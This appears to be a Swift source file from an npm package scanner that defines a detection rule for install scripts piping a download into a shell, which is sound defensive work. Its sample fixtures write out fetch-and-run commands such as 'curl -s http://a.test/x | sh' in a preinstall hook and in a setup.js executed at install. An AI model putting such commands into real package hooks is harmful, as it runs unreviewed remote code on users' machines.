// SPDX-License-Identifier: Apache-2.0

import NPMModel

/// Something that runs at install pipes a download straight into a shell or interpreter.
package struct PipedInstallDownload: Rule {
    package init() {}

    package let card = RuleCard(
        id: "piped-install-download", kind: .content, title: "Install runs what it downloads", severity: .critical, confidence: .high,
        status: .stable, revision: 2, group: "install-behaviour",
        rationale:
            "The code that runs is not in the tarball, so that no hash and no reviewer covers it, and it can differ by visitor and hour.",
        knownFalseAlarms: ["A wrapper that installs another tool by that tool's own one-line installer."],
        references: ["https://docs.npmjs.com/cli/using-npm/scripts"],
        fires: [
            RuleSample(
                "curl into sh",
                .sample(["package.json": #"{"name":"a","version":"1.0.0","scripts":{"preinstall":"curl -s http://a.test/x | sh"}}"#])),
            RuleSample(
                "inside a file that install runs",
                .sample([
                    "package.json": #"{"name":"a","version":"1.0.0","scripts":{"preinstall":"node setup.js"}}"#,
                    "setup.js": #"require('child_process').execSync('curl -fsSL https://run.example/install | bash')"#,
                ])),
        ],
        staysSilent: [
            RuleSample(
                "native build", .sample(["package.json": #"{"name":"a","version":"1.0.0","scripts":{"install":"node-gyp rebuild"}}"#])),
            RuleSample(
                "advice in the read-me",
                .sample(["package.json": #"{"name":"a","version":"1.0.0"}"#, "README.md": "curl -s https://a.example/x | sh"])),
            RuleSample(
                "a fallback, not a pipe",
                .sample(["package.json": #"{"name":"a","version":"1.0.0","scripts":{"install":"prebuild-install || node-gyp rebuild"}}"#])),
        ]
    )

    package func findings(in facts: ReleaseFacts) -> [Finding] {
        guard facts.installSigns.contains(.pipesIntoShell) else { return [] }
        return [
            card.finding(
                "Install downloads a script and runs it at once", evidence: facts.installEvidence([.pipesIntoShell]),
                meaning: "What runs on the machine is decided by whoever controls that address at that moment.")
        ]
    }
}
